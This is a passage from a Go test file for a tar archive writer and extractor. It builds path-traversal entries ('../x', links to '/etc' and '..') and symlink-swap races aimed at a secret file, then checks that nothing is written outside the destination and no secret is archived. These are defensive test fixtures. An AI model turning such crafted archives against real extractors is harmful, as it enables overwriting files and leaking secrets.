		var buf bytes.Buffer
		err := Write(&buf, src)
		ch <- result{buf.Bytes(), err}
	}()
	select {
	case r := <-ch:
		return r.b, r.err
	case <-time.After(20 * time.Second):
		t.Fatal("Write hung")
		return nil, nil
	}
}

func TestWriteRefusesSpecialFiles(t *testing.T) {
	src := filepath.Join(t.TempDir(), "src")
	os.Mkdir(src, 0o755)
	os.WriteFile(filepath.Join(src, "a"), []byte("a"), 0o644)
	if err := syscall.Mkfifo(filepath.Join(src, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := writeWithin(t, src)
	if err == nil || !strings.Contains(err.Error(), "fifo: it is a named pipe, not a file") {
		t.Fatalf("err %v", err)
	}
	_, err = writeWithin(t, filepath.Join(src, "fifo"))
	if err == nil || !strings.Contains(err.Error(), "it is a named pipe") {
		t.Fatalf("the fifo itself: %v", err)
	}
}

// TestWriteSwaps: a file replaced between its directory's listing and its
// opening, by a named pipe (which must not hang the copy) or by a link to
// a secret (which must not be followed).
func TestWriteSwaps(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	os.WriteFile(secret, []byte("the secret"), 0o600)
	for _, tc := range []struct {
		name string
		swap func(p string) error
		want string
	}{
		{"named pipe", func(p string) error { os.Remove(p); return syscall.Mkfifo(p, 0o644) }, "and is now a named pipe"},
		{"link", func(p string) error { os.Remove(p); return os.Symlink(secret, p) }, "now a symbolic link, not followed"},
		{"directory link", func(p string) error { os.Remove(p); return os.Symlink(filepath.Dir(secret), p) }, "now a symbolic link, not followed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			src := filepath.Join(t.TempDir(), "src")
			os.Mkdir(src, 0o755)
			target := filepath.Join(src, "f")
			os.WriteFile(target, []byte("f"), 0o644)
			testHookOpen = func(p string) {
				if p == target {
					if err := tc.swap(p); err != nil {
						t.Error(err)
					}
				}
			}
			defer func() { testHookOpen = nil }()
			b, err := writeWithin(t, src)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			if bytes.Contains(b, []byte("the secret")) {
				t.Fatal("the secret was archived")
			}
		})
	}
}

// TestWriteSwapRace: a subdirectory and a file keep being replaced by
// links to a secret while the tree is archived: the secret never gets
// into an archive, and Write never hangs.
func TestWriteSwapRace(t *testing.T) {
	secretDir := filepath.Join(t.TempDir(), "secrets")
	os.Mkdir(secretDir, 0o700)
	os.WriteFile(filepath.Join(secretDir, "key"), []byte("the secret"), 0o600)
	src := filepath.Join(t.TempDir(), "src")
	os.MkdirAll(filepath.Join(src, "sub"), 0o755)
	for i := 0; i < 8; i++ {
		os.WriteFile(filepath.Join(src, "sub", fmt.Sprintf("f%d", i)), []byte("plain"), 0o644)
	}
	os.WriteFile(filepath.Join(src, "key"), []byte("plain"), 0o644)
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			for _, s := range []struct{ p, target string }{{filepath.Join(src, "sub"), secretDir}, {filepath.Join(src, "key"), filepath.Join(secretDir, "key")}} {
				if os.Rename(s.p, s.p+".x") == nil {
					os.Symlink(s.target, s.p)
					os.Remove(s.p)
					os.Rename(s.p+".x", s.p)
				}
			}
		}
	}()
	defer func() { close(stop); <-done }()
	iterations := 300
	if testing.Short() {
		iterations = 50
	}
	for i := 0; i < iterations; i++ {
		b, _ := writeWithin(t, src)
		if bytes.Contains(b, []byte("the secret")) {
			t.Fatalf("iteration %d: the secret was archived", i)
		}
	}
}

// TestBudgetReader: a header may take at most its budget, and only the
// end of the stream may follow a spent budget.
func TestBudgetReader(t *testing.T) {
	b := &budgetReader{r: bytes.NewReader(make([]byte, 10))}
	b.allow(4)
	if n, err := io.ReadFull(b, make([]byte, 4)); n != 4 || err != nil {
		t.Fatal(n, err)
	}
	if _, err := b.Read(make([]byte, 1)); err != errOverBudget || !b.over {
		t.Fatalf("past the budget: %v", err)
	}
	b = &budgetReader{r: bytes.NewReader(make([]byte, 4))}
	b.allow(4)
	if n, err := io.Copy(io.Discard, b); n != 4 || err != nil {
		t.Fatalf("the end right at the budget: %d %v", n, err)
	}
}

// FuzzExtract extracts arbitrary archives: whatever they hold, nothing
// lands outside the destination, and an archive whose top-level entry is
// not the one asked for writes nothing.
func FuzzExtract(f *testing.F) {
	f.Add(archive(f, dir("top/"), file("top/f", "x", 0o644), link("top/l", "/etc")))
	f.Add(archive(f, dir("top/"), link("top/l", ".."), file("top/l/x", "evil", 0o644)))
	f.Add(archive(f, file("../x", "evil", 0o644)))
	f.Add([]byte("not a tar archive"))
	f.Add(sparseArchive())
	for _, tc := range hostileArchives(f) {
		if len(tc.data) <= 32<<10 { // larger ones make minimizing slow
			f.Add(tc.data)
		}
	}
	base := f.TempDir()
	f.Fuzz(func(t *testing.T, data []byte) {
		// One of two checks per input (filesystem work is what costs).
		opt := Options{MaxBytes: 1 << 20, MaxEntries: 1000, MaxDepth: 16}
		if len(data)%2 == 1 {
			opt.Top = "top"
		}
		outer, err := os.MkdirTemp(base, "")
		if err != nil {
			t.Fatal(err)
		}
		defer os.RemoveAll(outer)
		dst := filepath.Join(outer, "dst")
		os.Mkdir(dst, 0o755)
		os.WriteFile(filepath.Join(dst, "keep"), []byte("keep"), 0o600)
		err = Extract(bytes.NewReader(data), dst, opt)
		entries, _ := os.ReadDir(outer)
		if len(entries) != 1 || entries[0].Name() != "dst" {
			t.Fatalf("written outside the destination: %v", entries)
		}
		if b, _ := os.ReadFile(filepath.Join(dst, "keep")); opt.Top != "" && string(b) != "keep" {
			t.Fatal("an existing file outside the copy's name changed")
		}
		names, _ := os.ReadDir(dst)
		for _, n := range names {
			switch {
			case n.Name() == "keep":
			case err != nil && strings.HasPrefix(n.Name(), ".sonix-run-cp-"):
				t.Fatalf("a failed copy left %s", n.Name())
			case opt.Top != "" && n.Name() != "top":
				t.Fatalf("%s written, but top was asked for", n.Name())
			}
		}
		if _, err := os.Lstat("/x"); err == nil {
			t.Fatal("/x exists")
		}
		if err == nil {
			filepath.WalkDir(outer, func(p string, d fs.DirEntry, err error) error {
				if err == nil && d.IsDir() {
					os.Chmod(p, 0o755) // so that it can be removed
				}
				return nil
			})
		}
	})
}

// TestNoDescriptorLeaks: refused archives, failed sources and successful
// copies all close every descriptor they opened.
func TestNoDescriptorLeaks(t *testing.T) {
	count := func() int {
		entries, err := os.ReadDir("/proc/self/fd")
		if err != nil {
			t.Skip("no /proc/self/fd")
		}
		return len(entries)
	}
	before := count()
	for _, tc := range hostileArchives(t) {
		Extract(bytes.NewReader(tc.data), treetest.HomeLike(t), tc.opt)
	}
	src := filepath.Join(t.TempDir(), "src")
	os.MkdirAll(filepath.Join(src, "a", "b"), 0o755)
	os.WriteFile(filepath.Join(src, "a", "b", "f"), []byte("f"), 0o644)
	syscall.Mkfifo(filepath.Join(src, "a", "fifo"), 0o644)
	Write(io.Discard, src)
	Write(io.Discard, filepath.Join(src, "missing"))
	os.Remove(filepath.Join(src, "a", "fifo"))
	var buf bytes.Buffer
	if err := Write(&buf, src); err != nil {
		t.Fatal(err)
	}
	if err := Extract(&buf, filepath.Join(t.TempDir(), "copy"), Options{}); err != nil {
		t.Fatal(err)
	}
	if after := count(); after != before {
		t.Errorf("%d descriptors open after, %d before", after, before)
	}
}
